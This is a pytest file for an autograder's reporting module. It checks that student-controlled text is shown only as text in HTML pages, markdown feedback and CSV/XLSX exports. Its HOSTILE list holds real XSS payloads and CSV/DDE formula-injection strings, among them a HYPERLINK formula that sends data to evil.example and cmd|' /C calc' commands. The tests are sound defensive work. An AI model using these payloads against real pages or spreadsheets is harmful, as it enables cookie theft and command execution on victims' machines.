"""Text a student or a roster controls — names, file names, issue details, error messages, test
messages — reaches every page, export and feedback file as text: the dashboard, report cards and
audit page are parsed and must hold exactly the elements and attributes of the same report made
with plain placeholders; no CSV or XLSX cell is a formula; markdown quotes it as code."""

from __future__ import annotations

import csv
import datetime as dt
from collections import Counter
from html.parser import HTMLParser
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import update

from autograder.gradebook import Gradebook, IssueRow, RunRow, results, runs, submissions
from autograder.pages import CSP
from autograder.report import write_report
from autograder.sheets import TRIGGERS
from testkit.synthetic_class import make_class

AS_OF = dt.datetime(2026, 7, 30, tzinfo=dt.timezone.utc)
HOSTILE = ['<img src=x onerror=alert(1)>', '"><script>alert(document.cookie)</script>', "' onmouseover='alert(1)",
           '=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=2+2", "<svg onload=alert(1)>", "[link](javascript:alert(1))"]


class Tags(HTMLParser):
    """Every element and its attribute names; and the text, to see that the payloads are shown."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: Counter = Counter()
        self.text: list[str] = []
        self.csp: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags[(tag, tuple(sorted(a for a, _ in attrs)))] += 1
        if tag == "meta" and ("http-equiv", "Content-Security-Policy") in attrs:
            self.csp.append(dict(attrs)["content"])

    def handle_data(self, data):
        self.text.append(data)


def parse(path: Path) -> Tags:
    t = Tags()
    t.feed(path.read_text(encoding="utf-8"))
    return t


def _class(folder: Path, payload) -> tuple:
    """A small synthetic class whose names, file names, issues, problems, errors and test messages are
    ``payload(i)``; the same class (same seed) is made once with payloads and once with placeholders."""
    cfg, truth = make_class(folder, n_students=len(HOSTILE), weeks=2, cases=3, seed=3)
    roster = cfg.path(cfg.roster)
    lines = roster.read_text(encoding="utf-8").splitlines()
    rows = [lines[0]] + [f'{line.split(",")[0]},"{payload(i).replace(chr(34), chr(34) * 2)}",19,'
                         f'user{i}' for i, line in enumerate(lines[1:])]
    roster.write_text("\n".join(rows) + "\n", encoding="utf-8")
    book = Gradebook(cfg.gradebook)
    with book.engine.begin() as conn:
        for i in range(len(HOSTILE)):
            conn.execute(update(submissions).where(submissions.c.id == i + 1).values(
                path=f"2주차 과제_19기 {payload(i)}.ipynb", student_name=payload(i),
                status="invalid", problem=payload(i)))
        conn.execute(update(results).values(message=payload(0), title=payload(1)))
    for i in range(len(HOSTILE)):
        book.add_issue(IssueRow("week02", "2026-07-10T00:00:00+00:00", f"1주차 과제_19기 {payload(i)}.md",
                                "unknown-student", payload(i), payload(i)))
        book.add_issue(IssueRow("week02", "2026-07-10T00:00:00+00:00", payload(i), "needs-review",
                                f"cell 2 line 3: {payload(i)}", payload(i)))
    rejected = book.latest_submissions("week03")[0]["id"]  # its graded run withdrawn, then rejected
    with book.engine.begin() as conn:
        conn.execute(update(runs).where(runs.c.submission_id == rejected).values(current=False))
    book.record_run(rejected, RunRow("t", "t", "rejected", error=f"{payload(0)}\n  → save it again"), [], "test",
                    only_if_ungraded=False)
    return cfg, book


@pytest.fixture(scope="module")
def reports(tmp_path_factory):
    made = {}
    for label, payload in (("hostile", lambda i: HOSTILE[i]), ("plain", lambda i: f"placeholder{i}")):
        cfg, book = _class(tmp_path_factory.mktemp(label), payload)
        made[label] = (cfg, book, write_report(cfg, book, as_of=AS_OF))
    return made


def _pages(files) -> list[Path]:
    return [files.html, *sorted((files.folder / "cards").glob("*.html"))]


def test_every_page_has_the_same_elements_and_attributes_as_with_plain_text(reports):
    hostile, plain = reports["hostile"][2], reports["plain"][2]
    pages = _pages(hostile)
    assert len(pages) == len(_pages(plain)) == 1 + len(HOSTILE)
    shown = ""
    for mine, base in zip(pages, _pages(plain)):
        got, want = parse(mine), parse(base)
        assert got.tags == want.tags, (mine.name, got.tags - want.tags)
        assert got.csp == [CSP]
        shown += "".join(got.text)
    for payload in HOSTILE:
        assert payload.strip() in shown or payload.split()[0] in shown  # shown, as text
    scripts = [k for k in parse(hostile.html).tags if k[0] == "script"]
    assert scripts == [("script", ("src",))]  # sort.js and filter.js, nothing inline


def test_the_audit_page_escapes_what_it_quotes(tmp_path):
    from autograder.audit.api import AuditReport, Mutant, MutantResult
    from autograder.audit.page import write_audit

    mutant = Mutant("softmax", "softmax", HOSTILE[3], 1, 3, HOSTILE[0], HOSTILE[1])
    report = AuditReport("week02", [MutantResult(mutant, "survived", 0.0, [HOSTILE[2]])], 1.0)
    html, table = write_audit(report, tmp_path)
    tags = parse(html).tags
    assert not any(tag in ("img", "script", "svg") or any(a.startswith("on") for a in attrs) for tag, attrs in tags)
    assert parse(html).csp == [CSP]
    for row in csv.reader(table.open(encoding="utf-8-sig")):
        assert not any(cell.startswith(TRIGGERS) for cell in row)


def _number(cell: str) -> bool:
    try:
        float(cell)
        return True
    except ValueError:
        return False


def test_no_export_cell_is_a_formula(reports):
    cfg, _, files = reports["hostile"]
    checked = 0
    for path in sorted(files.folder.glob("*.csv")):
        encoding = "utf-8" if path.name == "canvas_grades.csv" else "utf-8-sig"
        for row in csv.reader(path.open(encoding=encoding, newline="")):
            for cell in row:
                assert _number(cell) or not cell.startswith(TRIGGERS), (path.name, cell)
                checked += 1
    assert checked > 500
    text = "".join(p.read_text(encoding="utf-8-sig") for p in files.folder.glob("*.csv"))
    assert "'=HYPERLINK(" in text and "'@SUM(" in text  # kept, as text
    workbook = openpyxl.load_workbook(files.files["xlsx"])
    strings = 0
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                strings += isinstance(cell.value, str) and cell.value.startswith("=HYPERLINK")
    assert strings >= 1  # the payload is in the workbook as a string


def test_the_manual_template_round_trips_a_comment_that_starts_like_a_formula(reports, tmp_path):
    from autograder.manual import import_scores, write_template

    cfg, book, _ = reports["hostile"]
    week = cfg.assignment("week02")
    path = write_template(cfg, week, tmp_path / "manual.csv")
    rows = list(csv.reader(path.open(encoding="utf-8-sig")))
    assert all(not c.startswith(TRIGGERS) for r in rows for c in r)
    header = rows[0]
    first = rows[1]
    first[header.index("points")] = "2"
    first[header.index("comment")] = "'-1 for the missing plot"
    with path.open("w", encoding="utf-8-sig", newline="") as f:
        csv.writer(f).writerows([header, first])
    import_scores(cfg, week, book, path, entered_by="조교")
    comment = {(m["student_id"], m["item"]): m["comment"] for m in book.manual("week02")}
    assert comment[(first[0], first[header.index("item")])] == "-1 for the missing plot"


def test_markdown_feedback_and_cards_quote_student_text_as_code(reports, tmp_path):
    from autograder.feedback import write_feedback

    cfg, book, files = reports["hostile"]
    card = next((files.folder / "cards").glob("*.md")).read_text(encoding="utf-8")
    assert "<img" not in card and "<script" not in card and "<svg" not in card
    fb = write_feedback(cfg, cfg.assignment("week03"), book, tmp_path / "fb", at=AS_OF)
    texts = [p.read_text(encoding="utf-8") for p in fb.files.values()]
    for text in texts:
        outside_code = "".join(text.split("`")[::2])  # what is not inside inline code
        assert "<img" not in outside_code and "<script" not in outside_code and "<svg" not in outside_code
    assert any("rejected: " in t and "`" in t for t in texts)  # the rejected reason is shown, quoted
